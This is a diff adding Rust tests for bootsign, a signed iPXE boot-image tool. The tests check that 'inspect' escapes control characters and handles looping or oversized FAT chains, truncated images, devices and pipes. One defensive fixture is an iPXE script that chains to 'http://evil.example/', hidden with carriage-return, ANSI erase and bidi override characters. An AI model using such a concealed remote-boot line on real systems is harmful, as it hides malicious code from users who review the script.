@@ -461,3 +461,310 @@ fn a_planted_project_file_cannot_leak_a_key_and_its_settings_are_named() {
     common::refused(&env, &["build", "--force"], &["it belongs to another user (uid 4242)"]);
     env.ok(&["build", "--force", "--no-config", "--efi", "--trust", "ca.crt"]);
 }
+
+#[test]
+fn inspect_shows_script_control_characters_escaped() {
+    let env = Env::new();
+    pki(&env);
+    // A line that, printed raw, would return to the start of the line and erase it,
+    // hiding the `chain` it carries behind the harmless text that follows.
+    env.write("hostile.ipxe", "#!ipxe\nchain http://evil.example/\r\x1b[2Kecho \\x1b safe\u{202e}\ndhcp\n");
+    env.ok(&["build", "--efi", "--trust", "ca.crt", "--embed", "hostile.ipxe"]);
+    let out = env.ok(&["inspect", "bootsign.efi"]);
+    assert!(!out.contains('\x1b') && !out.contains('\r') && !out.contains('\u{202e}'), "{out:?}");
+    let script: Vec<&str> = out.lines().skip_while(|l| *l != "script").skip(1).collect();
+    assert_eq!(
+        script,
+        ["  #!ipxe", "  chain http://evil.example/\\r\\x1b[2Kecho \\\\x1b safe\\u{202e}", "  dhcp",],
+        "{out}"
+    );
+    // Settings and the crosscert URL of a hand-made configuration (`build` only writes
+    // values it checked).
+    let cfg = bootsign_config::Config {
+        settings: vec![("tls-min\x1b[8m", "1.2\r")],
+        crosscert: Some("http://ca.example/\u{2066}x"),
+        script: Some("#!ipxe\n"),
+        ..Default::default()
+    };
+    let image = bootsign_pe::add_section(
+        bootsign::firmware::TEMPLATE,
+        bootsign_pe::CONFIG_SECTION,
+        &cfg.encode().unwrap(),
+    )
+    .unwrap();
+    env.write("made.efi", image);
+    let out = env.ok(&["inspect", "made.efi"]);
+    assert!(out.contains("\n  tls-min\\x1b[8m=1.2\\r\n"), "{out}");
+    assert!(out.contains("\ncrosscert    http://ca.example/\\u{2066}x\n"), "{out}");
+}
+
+/// The FAT file system inside a built image, found by parsing (GPT or El Torito, then
+/// the boot sector), so damage can be put exactly where it is meant to go.
+struct Fat {
+    bits: u32,
+    fats: Vec<usize>,
+    root_at: usize,
+    root_bytes: usize,
+    data_at: usize,
+    cluster_bytes: usize,
+    clusters: u32,
+}
+
+/// A directory entry: where it is in the image, its first cluster and size.
+struct DirEntry {
+    at: usize,
+    cluster: u32,
+}
+
+fn le16(b: &[u8], at: usize) -> usize {
+    u16::from_le_bytes([b[at], b[at + 1]]).into()
+}
+
+fn le32(b: &[u8], at: usize) -> usize {
+    u32::from_le_bytes(b[at..at + 4].try_into().unwrap()) as usize
+}
+
+impl Fat {
+    /// The ESP of a `--usb` image (the GPT's first partition).
+    fn of_usb(img: &[u8]) -> Self {
+        assert_eq!(&img[512..520], b"EFI PART");
+        let entries = le32(img, 512 + 72) * 512;
+        Self::at(img, le32(img, entries + 32) * 512)
+    }
+
+    /// The ESP of an `--iso` image (the El Torito default entry's image).
+    fn of_iso(img: &[u8]) -> Self {
+        let br = &img[17 * 2048..18 * 2048];
+        assert_eq!(&br[7..30], b"EL TORITO SPECIFICATION");
+        let catalog = le32(br, 71) * 2048;
+        Self::at(img, le32(img, catalog + 32 + 8) * 2048)
+    }
+
+    fn at(img: &[u8], base: usize) -> Self {
+        let b = &img[base..base + 512];
+        let sector = le16(b, 11);
+        let per_cluster = usize::from(b[13]);
+        let reserved = le16(b, 14);
+        let nfats = usize::from(b[16]);
+        let root_entries = le16(b, 17);
+        let total = if le16(b, 19) != 0 { le16(b, 19) } else { le32(b, 32) };
+        let fat_sectors = if le16(b, 22) != 0 { le16(b, 22) } else { le32(b, 36) };
+        let root_sectors = (root_entries * 32).div_ceil(sector);
+        let data = reserved + nfats * fat_sectors + root_sectors;
+        let clusters = ((total - data) / per_cluster) as u32;
+        let bits = match clusters {
+            0..4085 => 12,
+            4085..65525 => 16,
+            _ => panic!("the ESP is FAT32; this helper reads FAT12/16"),
+        };
+        Self {
+            bits,
+            fats: (0..nfats).map(|i| base + (reserved + i * fat_sectors) * sector).collect(),
+            root_at: base + (reserved + nfats * fat_sectors) * sector,
+            root_bytes: root_sectors * sector,
+            data_at: base + data * sector,
+            cluster_bytes: sector * per_cluster,
+            clusters,
+        }
+    }
+
+    fn get(&self, img: &[u8], n: u32) -> u32 {
+        let n = n as usize;
+        let fat = self.fats[0];
+        match self.bits {
+            12 if n.is_multiple_of(2) => (le16(img, fat + n + n / 2) & 0xfff) as u32,
+            12 => (le16(img, fat + n + n / 2) >> 4) as u32,
+            _ => le16(img, fat + 2 * n) as u32,
+        }
+    }
+
+    /// Sets cluster `n`'s entry to `v` in every FAT.
+    fn set(&self, img: &mut [u8], n: u32, v: u32) {
+        let (n, v) = (n as usize, v as usize);
+        for &fat in &self.fats {
+            match self.bits {
+                12 => {
+                    let at = fat + n + n / 2;
+                    let old = le16(img, at);
+                    let new =
+                        if n.is_multiple_of(2) { (old & 0xf000) | v } else { (old & 0x000f) | (v << 4) };
+                    img[at..at + 2].copy_from_slice(&(new as u16).to_le_bytes());
+                }
+                _ => img[fat + 2 * n..fat + 2 * n + 2].copy_from_slice(&(v as u16).to_le_bytes()),
+            }
+        }
+    }
+
+    fn chain(&self, img: &[u8], first: u32) -> Vec<u32> {
+        let end = if self.bits == 12 { 0xff8 } else { 0xfff8 };
+        let mut out = vec![first];
+        loop {
+            let next = self.get(img, *out.last().unwrap());
+            if next >= end {
+                return out;
+            }
+            out.push(next);
+        }
+    }
+
+    /// The entry `name` (8.3, as stored) in the directory at `cluster` (0: the root).
+    fn entry(&self, img: &[u8], cluster: u32, name: &[u8; 11]) -> DirEntry {
+        let spans: Vec<(usize, usize)> = if cluster == 0 {
+            vec![(self.root_at, self.root_bytes)]
+        } else {
+            self.chain(img, cluster)
+                .iter()
+                .map(|&c| (self.data_at + (c as usize - 2) * self.cluster_bytes, self.cluster_bytes))
+                .collect()
+        };
+        for (start, len) in spans {
+            for at in (start..start + len).step_by(32) {
+                if &img[at..at + 11] == name {
+                    return DirEntry { at, cluster: le16(img, at + 26) as u32 };
+                }
+            }
+        }
+        panic!("{} not found", String::from_utf8_lossy(name));
+    }
+
+    /// EFI, EFI/BOOT and EFI/BOOT/BOOTX64.EFI.
+    fn boot_path(&self, img: &[u8]) -> [DirEntry; 3] {
+        let efi = self.entry(img, 0, b"EFI        ");
+        let boot = self.entry(img, efi.cluster, b"BOOT       ");
+        let file = self.entry(img, boot.cluster, b"BOOTX64 EFI");
+        [efi, boot, file]
+    }
+}
+
+/// Runs bootsign, which must fail within `secs` seconds (it is killed otherwise).
+fn fails_quickly(env: &Env, args: &[&str], secs: u64) -> String {
+    let mut child = env
+        .cmd(args)
+        .stdout(std::process::Stdio::piped())
+        .stderr(std::process::Stdio::piped())
+        .spawn()
+        .unwrap();
+    let started = std::time::Instant::now();
+    while child.try_wait().unwrap().is_none() {
+        if started.elapsed().as_secs() >= secs {
+            child.kill().unwrap();
+            child.wait().unwrap();
+            panic!("bootsign {args:?} still ran after {secs} s");
+        }
+        std::thread::sleep(std::time::Duration::from_millis(20));
+    }
+    let out = child.wait_with_output().unwrap();
+    assert_eq!(out.status.code(), Some(1), "bootsign {args:?}: {out:?}");
+    String::from_utf8(out.stderr).unwrap()
+}
+
+#[test]
+fn inspect_reports_a_looping_or_overlong_fat_instead_of_hanging() {
+    let env = Env::new();
+    pki(&env);
+    env.ok(&["build", "--usb", "--iso", "--trust", "ca.crt", "--embed", "boot.ipxe"]);
+    let usb = env.read("bootsign.usb");
+    let iso = env.read("bootsign.iso");
+    let damaged = |name: &str, image: &[u8], expect: &str| {
+        env.write(name, image);
+        let err = fails_quickly(&env, &["inspect", name], 20);
+        assert!(err.contains(&format!("error: '{name}': {expect}")), "{err}");
+    };
+
+    // A USB image whose EFI directory's chain points back at itself.
+    let fat = Fat::of_usb(&usb);
+    let [efi, boot, file] = fat.boot_path(&usb);
+    let mut img = usb.clone();
+    fat.set(&mut img, efi.cluster, efi.cluster);
+    damaged("dirloop.usb", &img, "the FAT is damaged: the cluster chain of EFI loops");
+
+    // An ISO whose EFI/BOOT directory's chain runs into a two-cluster cycle.
+    let iso_fat = Fat::of_iso(&iso);
+    let [_, iso_boot, _] = iso_fat.boot_path(&iso);
+    let spare = iso_fat.clusters + 1;
+    let mut img = iso.clone();
+    iso_fat.set(&mut img, iso_boot.cluster, spare);
+    iso_fat.set(&mut img, spare, iso_boot.cluster);
+    damaged("dirloop.iso", &img, "the FAT is damaged: the cluster chain of EFI/BOOT loops");
+
+    // The program's chain loops back to its start, and its size is 0xFFFFFFFF: the loop
+    // is found before the size is believed, and nothing near 4 GiB is allocated.
+    let chain = fat.chain(&usb, file.cluster);
+    assert!(chain.len() > 2, "{chain:?}");
+    let mut img = usb.clone();
+    img[file.at + 28..file.at + 32].copy_from_slice(&u32::MAX.to_le_bytes());
+    fat.set(&mut img, *chain.last().unwrap(), file.cluster);
+    damaged("fileloop.usb", &img, "the FAT is damaged: the cluster chain of EFI/BOOT/BOOTX64.EFI loops");
+
+    // The same size on an intact chain: over the limit, said as such.
+    let mut img = usb.clone();
+    img[file.at + 28..file.at + 32].copy_from_slice(&u32::MAX.to_le_bytes());
+    damaged("huge.usb", &img, "EFI/BOOT/BOOTX64.EFI is 4294967295 bytes, more than the 64 MiB limit");
+
+    // A size just past what the chain holds.
+    let holds = chain.len() * fat.cluster_bytes;
+    let mut img = usb.clone();
+    img[file.at + 28..file.at + 32].copy_from_slice(&(holds as u32 + 1).to_le_bytes());
+    damaged(
+        "short.usb",
+        &img,
+        &format!(
+            "the FAT is damaged: EFI/BOOT/BOOTX64.EFI is {} bytes, but its cluster chain holds only {holds}",
+            holds + 1
+        ),
+    );
+
+    // A chain that leaves the file system.
+    let mut img = usb.clone();
+    fat.set(&mut img, boot.cluster, fat.clusters + 2);
+    damaged(
+        "outside.usb",
+        &img,
+        &format!(
+            "the FAT is damaged: the cluster chain of EFI/BOOT leads to cluster {}, outside",
+            fat.clusters + 2
+        ),
+    );
+}
+
+#[test]
+fn inspect_says_a_cut_image_is_truncated() {
+    let env = Env::new();
+    pki(&env);
+    env.ok(&["build", "--usb", "--iso", "--trust", "ca.crt"]);
+    let iso = env.read("bootsign.iso");
+    let usb = env.read("bootsign.usb");
+    let half = iso.len() / 2;
+    env.write("half.iso", &iso[..half]);
+    let err = env.fails(&["inspect", "half.iso"]);
+    assert!(
+        err.contains("error: 'half.iso': the image is truncated: the El Torito boot image ends at byte ")
+            && err.contains(&format!("past the end of the file ({half} bytes)")),
+        "{err}"
+    );
+    // Cut before the volume descriptors: the hybrid MBR still says where the ESP was.
+    env.write("head.iso", &iso[..20_000]);
+    let err = env.fails(&["inspect", "head.iso"]);
+    assert!(
+        err.contains("'head.iso': the image is truncated: the EFI system partition (MBR) ends at byte"),
+        "{err}"
+    );
+    env.write("half.usb", &usb[..usb.len() / 2]);
+    let err = env.fails(&["inspect", "half.usb"]);
+    assert!(err.contains("'half.usb': the image is truncated: the backup GPT header ends at byte"), "{err}");
+}
+
+#[test]
+fn inspect_refuses_devices_and_pipes_at_once() {
+    let env = Env::new();
+    let err = fails_quickly(&env, &["inspect", "/dev/zero"], 10);
+    assert!(err.contains("error: '/dev/zero' is a character device, not an image"), "{err}");
+    let fifo = env.path("pipe");
+    let made = std::process::Command::new("mkfifo").arg(&fifo).status().unwrap();
+    assert!(made.success());
+    // Opening a FIFO would wait for a writer forever: it must be refused before that.
+    let err = fails_quickly(&env, &["inspect", "pipe"], 10);
+    assert!(err.contains("error: 'pipe' is a FIFO (named pipe), not an image"), "{err}");
+    let err = fails_quickly(&env, &["inspect", "."], 10);
+    assert!(err.contains("error: '.' is a directory, not an image"), "{err}");
+}
